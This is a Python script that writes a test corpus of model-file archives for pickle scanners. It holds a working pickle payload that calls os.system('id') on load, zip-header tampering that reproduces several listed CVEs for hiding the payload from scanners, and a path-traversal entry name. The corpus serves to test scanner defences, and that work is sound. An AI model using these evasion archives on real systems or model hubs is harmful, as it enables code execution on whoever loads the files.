"""Writes archives that hide a pickle from scanners, and a benign one.

    python make_archives.py OUT_DIR

Nothing is loaded. `index.json` records for each file the call that loading it would make, that readers disagree about
it ("ambiguous"), or neither ("clean").
"""

import io
import json
import os
import struct
import sys
import tarfile
import zipfile

ATTACK = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."
HONEST = b"\x80\x02}q\x00."
WHEN = (1980, 1, 1, 0, 0, 0)


def archive(members, method=zipfile.ZIP_STORED):
    """The bytes of a zip archive, the same in each run."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as writer:
        for name, data in members:
            info = zipfile.ZipInfo(name, WHEN)
            info.compress_type = method
            writer.writestr(info, data)
    return out.getvalue()


def changed(data, signature, offset, new):
    """The archive with bytes of its first header of a kind replaced."""
    at = data.index(signature) + offset
    return data[:at] + new + data[at + len(new):]


def torch(pickle, **more):
    return archive([("archive/data.pkl", pickle), ("archive/version", b"3\n")], **more)


def array_of_objects():
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + ATTACK


def tape(pickle):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as writer:
        info = tarfile.TarInfo("pickle")
        info.size = len(pickle)
        writer.addfile(info, io.BytesIO(pickle))
    return out.getvalue()


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"

CASES = [
    ("honest.pt", torch(HONEST), "clean"),
    ("data-pkl.pt", torch(ATTACK), "calls"),
    ("deflated.pt", torch(ATTACK, method=zipfile.ZIP_DEFLATED), "calls"),
    ("CVE-2025-1944-other-name-in-the-local-header.pt",
     changed(torch(ATTACK), LOCAL, 30, b"archive/zzzz.pkl"), "ambiguous"),
    ("CVE-2025-1945-flag-of-encryption.pt", changed(torch(ATTACK), CENTRAL, 8, b"\x01"), "ambiguous"),
    ("CVE-2025-1945-flag-in-the-local-header.pt", changed(torch(ATTACK), LOCAL, 6, b"\x01"),
     "ambiguous"),
    ("CVE-2025-10155-pickle-called-bin.bin", ATTACK, "calls"),
    ("CVE-2025-10155-archive-called-txt.txt", torch(ATTACK), "calls"),
    ("CVE-2025-10156-wrong-checksum.pt", changed(torch(ATTACK), CENTRAL, 16, b"\x00\x00\x00\x00"),
     "calls"),
    ("CVE-2025-32434-tar.pt", tape(ATTACK), "calls"),
    ("archive-in-an-archive.pt", archive([("inner.pt", torch(ATTACK))]), "calls"),
    ("array-of-objects.npz", archive([("w.npy", array_of_objects())]), "calls"),
    ("two-of-one-name.pt",
     archive([("data.pkl", HONEST), ("data.pkX", ATTACK)]).replace(b"data.pkX", b"data.pkl"),
     "ambiguous"),
    ("climbing-name.pt", archive([("../../../x.pkl", HONEST)]), "path"),
]


def main(out_dir):
    index = []
    for name, data, expected in CASES:
        with open(os.path.join(out_dir, name), "wb") as file:
            file.write(data)
        index.append({"file": name, "expected": expected})
    with open(os.path.join(out_dir, "index.json"), "w") as file:
        file.write("[\n" + ",\n".join(json.dumps(case) for case in index) + "\n]\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
